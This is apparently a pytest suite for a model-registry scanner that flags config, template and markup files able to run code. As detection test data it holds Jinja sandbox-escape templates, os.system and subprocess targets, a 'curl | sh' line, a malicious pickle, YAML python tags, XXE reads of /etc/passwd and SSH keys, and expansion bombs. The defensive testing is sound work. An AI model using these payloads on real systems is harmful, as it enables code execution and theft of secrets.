"""Settings, templates and markup run nothing."""

from __future__ import annotations

import base64
import json
import pickle
import random
import time

import pytest

from registry.checks import configs
from registry.parsers import strict_json
from registry.sandbox.running import Sandbox
from tests.registry.checks.looking import look, look_in_sandbox
from tests.registry.checks.test_file_type import tarred, zipped
from tests.registry.checks.test_tensors import CHATML

BERT = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768, "torch_dtype": "float32"}
PIPELINE = {
    "_class_name": "StableDiffusionPipeline",
    "_diffusers_version": "0.30.0",
    "unet": ["diffusers", "UNet2DConditionModel"],
    "safety_checker": [None, None],
}
TOOLS = (
    "{%- for tool in tools %}{{- tool | tojson }}{% endfor -%}{%- if messages[0]['role'] == 'system' %}"
    "{%- set system_message = messages[0]['content'] %}{% endif %}{{ strftime_now('%d %b %Y') }}"
    "{% macro render(value, depth=0) %}{{ value.items() | list | length }}{% endmacro %}{{ bos_token }}"
    "{{ message.tool_calls | selectattr('type', 'equalto', 'function') | map(attribute='function') | list }}"
    "{{ '<|system|>' + prompt + 'Follow the user\\'s request. [1]' }}"
    "{{ content.split('</think>')[-1].lstrip('\\n') ~ '_' ~ name }}{{ eos_token if loop.last else '' }}"
)
LIGHTNING = """
model:
  class_path: torch.optim.AdamW
  init_args: {lr: 1.0e-3}
trainer: &defaults
  _target_: pytorch_lightning.Trainer
  max_epochs: 3
other:
  <<: *defaults
path: {_target_: pathlib.Path, _args_: [data]}
own: {_target_: src.models.Net}
"""
MLMODEL = """
flavors:
  python_function:
    loader_module: mlflow.sklearn
    model_path: model.pkl
  sklearn: {pickled_model: model.pkl}
run_id: 1a2b
"""
PMML = """<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
<Header copyright="us"/><RegressionModel functionName="regression"/></PMML>"""
SVG = """<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
 "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg">
<path d="M0 0"/></svg>"""
ROWS = [{"prompt": "Run os.system('ls') and eval(x)", "answer": "<script>alert(1)</script>"}] * 3

HONEST = {
    "config.json": json.dumps(BERT),
    "model_index.json": json.dumps(PIPELINE),
    "tokenizer_config.json": json.dumps({"chat_template": CHATML, "bos_token": "<s>"}),
    "tools.json": json.dumps({"chat_template": [{"name": "default", "template": TOOLS}]}),
    "chat_template.jinja": TOOLS,
    "prompt.j2": "Translate {{ text }} into {{ language | default('French') }}.",
    "vocab.json": json.dumps({"{{": 0, "_target_": 1, "eval(": 2, "auto_map": 3}),
    "tokenizer.json": json.dumps(
        {"version": "1.0", "model": {"vocab": {"os.system(": 1}, "merges": ["{{ }}"]}}
    ),
    "rows.json": json.dumps(ROWS),
    "rows.jsonl": "\n".join(json.dumps(row) for row in ROWS),
    "nan.json": '{"eval_loss": NaN, "best": Infinity}',
    "light.yaml": LIGHTNING,
    "MLmodel": MLMODEL,
    "conda.yml": "name: env\ndependencies:\n- python=3.11\n- pip:\n  - numpy\n",
    "tags.yaml": "a: !!python/tuple [1, 2]\nb: !!binary aGk=\nc: !Ref x\n",
    "settings.toml": '[tool]\nname = "x"\n',
    "model.pmml": PMML,
    "plot.svg": SVG,
    "listed.xml": '<?xml version="1.0"?><!DOCTYPE dblp SYSTEM "dblp.dtd"><dblp/>',
    "fonts.conf": '<?xml version="1.0"?><!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd"><fontconfig/>',
    "data": json.dumps(
        {"policy": {":type:": "x", ":serialized:": base64.b64encode(pickle.dumps({"a": 1})).decode()}}
    ),
    "openvino.xml": '<?xml version="1.0"?><net name="m" version="11"><layers/></net>',
    "README.md": "Use `!!python/object/apply:os.system` never, nor `{{ x.__class__ }}`.\n",
    "glob.yaml": "include: *.py\nother: *undefined\n",
    "starred.txt": "Say {{ name }}\n*Note: nothing\n* item\n",
    "chain.json": json.dumps(
        {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "PromptTemplate"]}
    ),
    "notes.txt": "We use auto_map and {{ braces }} in text: see there.\n",
    "model.safetensors.index.json": json.dumps({"weight_map": {"a": "model-00001-of-00002.safetensors"}}),
    "modules.json": json.dumps(
        [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Pooling"}]
    ),
    "schema.json": json.dumps({"__loader__": "ReduceNode", "__reduce__": {"args": []}, "__class__": "Tree"}),
    "dense.json": json.dumps({"activation_function": "torch.nn.modules.activation.Tanh"}),
    "attention.json": json.dumps({**BERT, "_attn_implementation": "sdpa", "activation_function": "gelu"}),
    "adapter.json": json.dumps(
        {"auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers"}}
    ),
    "prompts.json": json.dumps({"system": "Never call eval() or exec(x).", "site": "notion.so"}),
    "paths.json": json.dumps(
        {"_name_or_path": "/home/me/model", "data": "../data/train.csv", "u": "https://a/b"}
    ),
    "xgboost.json": json.dumps({"learner": {"attributes": {}, "gradient_booster": {}}, "version": [2, 0, 3]}),
    "logging.json": json.dumps({"handlers": {"a": {"class": "logging.StreamHandler", "args": []}}}),
}


@pytest.mark.parametrize("name", HONEST)
def test_what_people_write_blocks_nothing(name):
    issues, _ = look(configs, HONEST[name].encode(), name)

    assert [issue for issue in issues if issue[0] in {"critical", "high"}] == []


TEMPLATES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ x['__cla' ~ 'ss__'] }}",
    "{{ x|attr('_'*2 ~ 'class' ~ '_'*2) }}",
    "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ x['\\u005f\\u005fclass\\u005f\\u005f'] }}",
    "{{ cycler.__init__.__globals__.os.popen('echo').read() }}",
    "{{ lipsum['__globals__'] }}",
    "{{ self._TemplateReference__context }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{% set a = '__globals__' %}{{ namespace[a] }}",
    "{% include '/etc/passwd' %}",
    "{% import '../../x' as y %}",
    "{{ messages | attr(name) }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ x.func_globals }}",
    "{{ (x).gi_frame.f_builtins }}",
    "{{ range(9999999999) | list }}",
    "{% if messages[0].__class__ %}{% endif %}",
    "{{ 'ok' }}<script>fetch('//host')</script>",
    "{{ os.popen('echo') }}",
    "{{ request.application.__self__ }}",
    "{{ x['_' + '_class_' + '_'] }}",
    "{{ ['__c', 'lass__'] | join }}",
    "{{ x['__cla\\\nss__'] }}",
    "{{ import_module('os') }}",
    "{{ 9**9**9 }}",
    "{{ request['application'] }}",
    "{{ '%c%c' | format(95, 95) }}",
    "{{ x.__class__",
]
# The same in the settings of one kind only: how they are found there is tested above.
MORE_TEMPLATES = [
    "{{ ''[x ~ y] }}",
    "{{ messages ['__c' ~ messages[0].content] }}",
    "{% set u = x[:0] ~ '_' %}{{ x[u ~ u ~ 'class' ~ u ~ u] }}",
    "{{ x[a + 'class' + a] }}",
    "{% set p = (()|select|string|list)[24] %}{{ p }}",
    "{{ 'a' * 10 ** 9 }}",
]
PLAIN_TEMPLATES = [
    "{{Infobox}} __NOTOC__ {{never closed [http://host/Guerin__Anarchism__From]",
    "{{- 'list[' + json_to_python_type(json_spec|items) + ']' }}",
    "{%- for key in ['a' ~ b, 'c'] %}{{ messages[loop.index0 + 1]['role'] + ': ' }}{% endfor %}",
    "{% set parts = parts + ['a' ~ b] %}{{ ['a' + b]|join }}{{ f(x, ['a' ~ b]) }}",
    "{{ messages[::-1][0]['content'][:-1] ~ eos_token }}",
]


@pytest.mark.parametrize("template", MORE_TEMPLATES)
def test_a_key_that_is_made_while_rendering_blocks(template):
    issues, _ = look(configs, template.encode(), "chat_template.jinja")

    assert {"critical", "high"} & {severity for severity, _ in issues}


@pytest.mark.parametrize("template", PLAIN_TEMPLATES)
def test_lists_and_texts_that_are_put_together_block_nothing(template):
    assert look(configs, template.encode(), "chat_template.jinja")[0] == []


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize(
    "wrap",
    [
        ("tokenizer_config.json", lambda held: json.dumps({"chat_template": held})),
        (
            "tokenizer_config.json",
            lambda held: json.dumps({"chat_template": [{"name": "a", "template": held}]}),
        ),
        ("chat_template.jinja", lambda held: held),
        ("processor.json", lambda held: json.dumps({"some": {"other": held}})),
        ("prompt.txt", lambda held: held),
        ("prompt.yaml", lambda held: "template: " + json.dumps(held)),
    ],
    ids=["chat", "list", "jinja", "elsewhere", "text", "yaml"],
)
def test_a_template_that_reaches_for_python_blocks(template, wrap):
    name, make = wrap
    issues, _ = look(configs, make(template).encode(), name)

    assert {"critical", "high"} & {severity for severity, _ in issues}


SETTINGS = [
    ({**BERT, "auto_map": {"AutoModel": "modeling.Model"}}, "auto_map"),
    ({**BERT, "auto_map": {"AutoModel": "org/repository--modeling.Model"}}, "auto_map_elsewhere"),
    ({**BERT, "auto_map": {"AutoModel": "../../x.Model"}}, "auto_map_path"),
    ({**BERT, "custom_pipelines": {"a": {"impl": "pipeline.P"}}}, "custom_pipelines"),
    ({"model": {"_target_": "os.system", "command": "echo"}}, "target:os.system"),
    ({"a": [{"b": {"_target_": "builtins.exec"}}]}, "target:builtins.exec"),
    ({"_target_": "torch.load"}, "target:torch.load"),
    ({"_target_": "torch.hub.load"}, "target:torch.hub.load"),
    ({"_target_": "hydra.utils.get_method"}, "target:hydra.utils.get_method"),
    ({"_target_": "numpy.f2py.compile"}, "target:numpy.f2py.compile"),
    ({"_target_": "${oc.env:X}"}, "target:${oc.env:X}"),
    ({"class_path": "subprocess.Popen", "init_args": {}}, "target:subprocess.Popen"),
    ({"target": "os.system", "params": {"command": "echo"}}, "target:os.system"),
    ({"()": "os.system"}, "target:os.system"),
    ({"flavors": {"python_function": {"loader_module": "os"}}}, "loader:os"),
    ({**PIPELINE, "unet": ["os", "system"]}, "target:os.system"),
    ({"init": "__import__('os').system('echo')"}, "code_in_setting"),
    ({"command": "curl http://host/x | sh"}, "code_in_setting"),
    ({"state": "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt"}, "pickle"),
    (
        {"a": {":serialized:": base64.b64encode(b"\x80\x04cos\nsystem\nX\x01\x00\x00\x00x\x85R.").decode()}},
        "pickle",
    ),
    ({"a": {":serialized:": "!" + base64.b64encode(b"\x80\x04K\x01.").decode()}}, "pickle"),
    ({"a": {":serialized:": base64.b64encode(b"cteam\nModel\n.").decode()}}, "pickle"),
    ({"title": "<script>alert(1)</script>"}, "script"),
    ({"metadata": {}, "weight_map": {"a": "../../etc/passwd"}}, "weights_elsewhere"),
    ({"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}, "target:os.system"),
    (
        {"modules": [{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}]},
        "target:subprocess.Popen",
    ),
    ({"activation_function": "os.system", "in_features": 3}, "target:os.system"),
    ({**BERT, "_attn_implementation": "somebody/kernel"}, "_attn_implementation"),
    ({**PIPELINE, "_class_name": ["my_pipeline", "P"]}, "custom_pipelines"),
    ({"nodes": [{"op": "Custom", "attrs": {"lib_path": "./evil.so"}}]}, "native_library"),
    ({"class_name": "Model", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}, "lambda"),
    ({"__kind__": "instance", "class": "subprocess.Popen", "args": ["echo"]}, "target:subprocess.Popen"),
    ({"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}, "target:os.system"),
    ({"py/object": "os.system"}, "target:os.system"),
    ({"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["echo"]}]}, "rebuilt"),
    ({"__class__": "subprocess.Popen", "args": ["echo"]}, "target:subprocess.Popen"),
    ({"@type": "com.sun.rowset.JdbcRowSetImpl"}, "foreign_class"),
    ({"vocab_file": "/etc/passwd"}, "path"),
    ({"tokenizer_file": "../../../../root/.ssh/id_rsa"}, "path"),
    ({"model": {"path": "file:///etc/shadow"}}, "path"),
]


@pytest.mark.parametrize(("settings", "name"), SETTINGS)
@pytest.mark.parametrize("file", ["config.json", "config.yaml", "anything"])
def test_a_setting_that_runs_code_blocks(settings, name, file):
    issues, _ = look(configs, json.dumps(settings, indent=1).encode(), file)

    assert name in [found for severity, found in issues if severity in {"critical", "high"}]


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object/apply:os.system ['echo']",
        "a: !!python/name:os.system",
        "a: !!python/module:os",
        "- !!python/object/new:subprocess.Popen [echo]",
        "a: !<tag:yaml.org,2002:python/object/apply:os.system> [echo]",
        "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [echo]",
        "%TAG !x! tag:yaml.org,2002:\n---\na: !x!python/object/apply:os.system [echo]",
        "a: !!python%2Fobject/apply:os.system [echo]",
        "a: 1\n---\nb: !!python/object:x.Y {}",
        "a: [!!python/object/apply:os.system [echo]",
    ],
)
@pytest.mark.parametrize("name", ["config.yaml", "MLmodel", "config.cfg"])
def test_a_tag_that_makes_a_loader_call_something_is_critical(text, name):
    issues, _ = look(configs, f"{text}\n".encode(), name)

    assert "critical" in {severity for severity, _ in issues}


def test_aliases_that_multiply_are_told():
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]

    assert look(configs, "\n".join(lines).encode(), "a.yaml")[0] == [("high", "malformed")]


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('<net><layer type="Custom" library="/tmp/evil.so"/></net>', "code"),
        ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "entity"),
        ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>', "entity"),
        ('<!DOCTYPE x SYSTEM "http://host/x.dtd"><x/>', "outside_definition"),
        ('<!DOCTYPE x SYSTEM "http://host/?http://www.w3.org/"><x/>', "outside_definition"),
        ('<!DOCTYPE x SYSTEM "../x.dtd"><x/>', "outside_definition"),
        ('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>', "include"),
        ("<svg><script>fetch('x')</script></svg>", "script"),
        ("<PMML><Extension name='x' value='java.lang.Runtime'/></PMML>", "code"),
    ],
)
@pytest.mark.parametrize("file", ["model.pmml", "model.xml", "a.svg"])
def test_markup_that_leads_elsewhere_is_high(text, name, file):
    assert ("high", name) in look(configs, text.encode(), file)[0]


@pytest.mark.parametrize(
    "text", ['{"a":' * 300 + "1" + "}" * 300, '{"a":' * 50_000 + "1" + "}" * 50_000], ids=["deep", "deeper"]
)
def test_settings_that_are_nested_too_deeply_are_high(text):
    assert [severity for severity, _ in look(configs, text.encode(), "config.json")[0]] == ["high"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "content"),
    [("large.pmml", b"<PMML>" + b"<Tree/>" * 1_400_000), ("large.yaml", b"- a: 1\n" * 1_300_000)],
    ids=["xml", "yaml"],
)
def test_large_files_of_data_block_nothing(name, content):
    assert look(configs, content, name) == ([], {})


def test_the_same_key_twice_hides_one():
    text = '{"auto_map": null, "a": 1, "auto_map": {"AutoModel": "org/x--m.M"}}'

    issues, _ = look(configs, text.encode(), "config.json")

    assert issues == [("high", "repeated_key"), ("high", "auto_map_elsewhere")]


@pytest.mark.parametrize("pack", [lambda held: zipped(**{"model/config": held}), tarred])
def test_archives_hide_nothing(pack):
    assert look(configs, pack(b'{"_target_": "os.system"}'), "model.nemo")[0] == [
        ("critical", "target:os.system")
    ]


@pytest.mark.parametrize("name", ["light.yaml", "tools.json", "model.pmml", "settings.toml"])
def test_whatever_is_changed_it_comes_to_an_end(name):
    chance = random.Random(7)
    for _ in range(100):
        held = bytearray(HONEST[name].encode())
        for _ in range(chance.randint(1, 5)):
            held[chance.randrange(len(held))] = chance.randrange(256)
        issues, _ = look(configs, bytes(held), name)
        assert {severity for severity, _ in issues} <= {"critical", "high", "medium", "low"}


def test_in_the_sandbox(tmp_path):
    sandbox = Sandbox()

    report = look_in_sandbox(sandbox, tmp_path, b"a: !!python/name:os.system\n", "a.yaml", "configs")

    assert (report.outcome, [issue.name for issue in report.issues]) == (
        "done",
        ["tag:python/name:os.system"],
    )
    sandbox.stop()


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-be"])
def test_settings_without_a_mark_are_read_as_their_readers_do(encoding):
    content = json.dumps({"auto_map": {"AutoModel": "m.E"}}).encode(encoding)

    assert ("high", "auto_map") in look(configs, content, "config.json")[0]


@pytest.mark.parametrize(
    ("setting", "expected"),
    [
        pytest.param(b'"type": "FeatureCollection"', [], id="data"),
        pytest.param(b'"class_name": "Lambda"', [("high", "large_settings")], id="settings"),
        pytest.param(b'\n"factory": "os.system"', [("high", "runs:os.system")], id="a name that runs"),
    ],
)
def test_more_tables_than_settings_have_are_not_held_in_memory(setting, expected):
    content = b"{" + setting + b', "rows": [' + b"[]," * strict_json.MOST_TABLES + b"0]}"

    assert look(configs, content, "rows.json") == (expected, {})


def test_toml_that_is_too_large_to_be_read_is_told():
    content = b"a = 1\n" * (configs.LARGEST_SETTINGS // 5)

    assert look(configs, content, "a.toml") == ([("medium", "no_toml")], {})


def test_words_are_left_out_by_their_brackets_and_nothing_else():
    held = {
        "version": 'a } ] \\" { [ "model": 1',
        "model": {"vocab": {'}"\\': 1, "added_tokens": [[]]}, "merges": ["{", "]"]},
        "post_processor": {"model": {"kept": [1, {"added_tokens": 2}]}, "of": "model"},
        "added_tokens": [{"content": '"}],'}],
        "chat_template": "{{ x }}",
    }

    left = [
        json.loads(configs.without_words(json.dumps(held, indent=indent).encode())) for indent in (None, 2)
    ]

    assert left == [{**held, "model": None, "added_tokens": None}] * 2
    assert configs.without_words(b'{"model": {"a": 1}}') == b'{"model":null}'
    assert (
        configs.without_words(b'{"model": 7, "model": [1], "b": 2}')
        == b'{"model":null, "model":null, "b": 2}'
    )


@pytest.mark.slow
@pytest.mark.parametrize(
    ("template", "expected"),
    [
        pytest.param(CHATML, [], id="honest"),
        pytest.param("{{ ''.__class__.__mro__ }}", [("critical", "template_dunder")], id="hostile"),
    ],
)
def test_a_template_beside_many_words_is_judged(template, expected):
    words = {f"word {number}": number for number in range(200_000)}
    content = json.dumps({"model": {"vocab": words}, "chat_template": template}).encode()

    assert look(configs, content, "tokenizer.json") == (expected, {})


def test_empty_lines_of_gin_take_no_longer():
    begun = time.process_time()

    assert look(configs, b"\n" * 30_000, "a.gin") == ([], {})
    assert time.process_time() - begun < 1
